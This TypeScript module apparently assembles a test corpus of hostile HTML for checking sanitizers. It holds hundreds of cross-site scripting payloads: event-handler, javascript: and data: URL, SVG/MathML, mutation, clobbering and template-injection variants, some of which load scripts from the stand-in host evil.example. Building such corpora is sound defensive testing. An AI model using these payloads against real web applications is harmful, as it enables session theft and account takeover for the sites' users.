// HTML of published attacks by class, each with variations: events, schemes, raw text, foreign content, mutation,
// clobbering, styles, encodings, unclosed tags.
const CALL = 'alert(1)'

const EVENTS = (
  'onload onerror onclick onmouseover onfocus onblur ontoggle onanimationstart onanimationend ontransitionend onpointerover ' +
  'onpointerenter onwheel oncopy oncut onpaste ondrag ondrop onbeforetoggle onscrollend onsearch onbegin onend onrepeat ' +
  'onauxclick ondblclick onkeydown onkeyup onkeypress oninput onchange onsubmit onreset onselect oninvalid onhashchange ' +
  'onpageshow onresize onmessage onplay oncanplay onloadstart onprogress ONLOAD OnErRoR'
).split(' ')
const byEvent = EVENTS.flatMap((event, at) => {
  const [tag, rest] = [
    ['img', 'src=x'],
    ['p', ''],
    ['a', 'href=#'],
    ['svg', ''],
    ['details', 'open'],
    ['video', 'src=x'],
  ][at % 6] ?? ['b', '']
  return [`<${tag} ${rest} ${event}=${CALL}>x</${tag}>`, `<${tag}/${rest}/${event}='${CALL}'>x`]
})

const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\rscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `&#0000106avascript:${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `vbscript:msgbox(1)`,
  `livescript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
  `blob:https://example.com/1`,
  `filesystem:https://example.com/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${CALL}`,
  `//evil.example/x`,
  `\\\\evil.example/x`,
]
const byScheme = SCHEMES.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<img src="${address}">`,
  `<iframe src="${address}"></iframe>`,
  `<form action="${address}"><input type=submit></form>`,
])

const RAW_TEXT =
  'xmp noembed noframes noscript plaintext style title textarea script iframe template select option'.split(' ')
const byRawText = RAW_TEXT.flatMap((tag) => [
  `<${tag}><img src=x onerror=${CALL}></${tag}>`,
  `<${tag}></${tag}><img src=x onerror=${CALL}>`,
  `<${tag}><p title="</${tag}><img src=x onerror=${CALL}>">`,
  `<p><${tag}>`,
])

const FOREIGN = [
  `<svg><script>${CALL}</script></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${CALL}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${CALL}</script>"></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${CALL}></desc></svg>`,
  `<svg><title><style><img src=x onerror=${CALL}></style></title></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src='#' onerror='${CALL}'>">`,
]

const MUTATION = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<p id="</title><script>${CALL}</script>">`,
  `<a title="--><img src=x onerror=${CALL}>">x</a>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--->${CALL}<img src=x onerror=${CALL}>-->`,
  `<!-- --!><img src=x onerror=${CALL}> -->`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
  `<!DOCTYPE x [<!ENTITY a "<img src=x onerror=${CALL}>">]>&a;`,
  `<table><td><img src=x onerror=${CALL}></table>`,
  `<table><script>${CALL}</script></table>`,
  `<b><p></b><img src=x onerror=${CALL}></p>`,
  `<img alt="\`\`onerror=${CALL}" src=x>`,
  `<p>&lt;img src=x onerror=${CALL}&gt;</p>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${CALL}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
]

const SYNTAX = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`,
  `<script>${CALL}`,
  `<script src=//evil.example/x.js`,
  `<img src=x onerror=${CALL}`,
  `<img src=x onerror=${CALL}//`,
  `<img src="x" """><script>${CALL}</script>">`,
  `<img """><script>${CALL}</script>">`,
  `<img src=\`x\` onerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img\fsrc=x\fonerror=${CALL}>`,
  `<img\tsrc=x\nonerror\r=\t${CALL}>`,
  `<img src=x onerror\u000b=${CALL}>`,
  `<img src=x:x onerror=&#97;lert(1)>`,
  `<a href="x" href="javascript:${CALL}">x</a>`,
  `<a href=javascript:${CALL} href=https://example.com>x</a>`,
  `<a\u00a0href="javascript:${CALL}">x</a>`,
  `</p><script>${CALL}</script><p>`,
  `</div></div></body><img src=x onerror=${CALL}>`,
  `<x onclick=${CALL}>x</x>`,
  `<custom-element onclick=${CALL}>x</custom-element>`,
  `<p onclick=${CALL} onclick=x>x`,
  `<isindex type=image src=1 onerror=${CALL}>`,
  `<image src=x onerror=${CALL}>`,
  `<bgsound src="javascript:${CALL}">`,
  `<layer src="javascript:${CALL}"></layer>`,
  `<keygen autofocus onfocus=${CALL}>`,
]

const SURROUNDINGS = [
  `<base href="https://evil.example/">`,
  `<base target=_blank>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv="Set-Cookie" content="session=1">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href=//evil.example/x>`,
  `<style>@import'//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>`,
  `<p style="width:expression(${CALL})">x</p>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<object type=text/x-scriptlet data=//evil.example/x></object>`,
  `<embed src="javascript:${CALL}">`,
  `<applet code=x.class></applet>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe srcdoc=&lt;script&gt;${CALL}&lt;/script&gt;>`,
  `<frameset onload=${CALL}><frame src=x></frameset>`,
  `<portal src="https://evil.example"></portal>`,
  `<form id=f><input name=password><button formaction="javascript:${CALL}">x</button></form>`,
  `<input autofocus onfocus=${CALL}>`,
  `<button onclick=${CALL}>x</button>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<select autofocus onfocus=${CALL}><option>x</select>`,
  `<form id=test></form><button form=test formaction=javascript:${CALL}>x`,
  `<a id=__proto__ href=x>x</a>`,
  `<img name=body src=x>`,
  `<img name=cookie><form name=getElementById><input name=attributes></form>`,
  `<a id=defaultView href=https://evil.example>x</a>`,
  `<p class="fixed inset-0">x</p>`,
  `<a href=https://evil.example target=_top ping=//evil.example/p>x</a>`,
  `<img srcset="javascript:${CALL} 1x, x 2x">`,
  `<picture><source srcset=x onerror=${CALL}><img src=x></picture>`,
  `<video poster=javascript:${CALL}><source onerror=${CALL}></video>`,
  `<audio src onloadstart=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<dialog open onclose=${CALL}>x</dialog>`,
  `<body onload=${CALL} background="javascript:${CALL}">`,
  `<html onmouseover=${CALL}>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<slot onslotchange=${CALL}></slot>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<p>${'<b>'.repeat(600)}<img src=x onerror=${CALL}></p>`,
  `${'<div>'.repeat(600)}<script>${CALL}</script>`,
]

export const HOSTILE_HTML: readonly string[] = [
  ...new Set([...byEvent, ...byScheme, ...byRawText, ...FOREIGN, ...MUTATION, ...SYNTAX, ...SURROUNDINGS]),
]

/** Packs the corpus into texts of at most `maxLength` characters; leaves out longer payloads. */
export function packHostileHtml(maxLength: number, separator = ' '): string[] {
  const packs: string[] = []
  for (const payload of HOSTILE_HTML.filter((text) => text.length <= maxLength)) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + separator.length + payload.length <= maxLength)
      packs[packs.length - 1] = last + separator + payload
    else packs.push(payload)
  }
  return packs
}
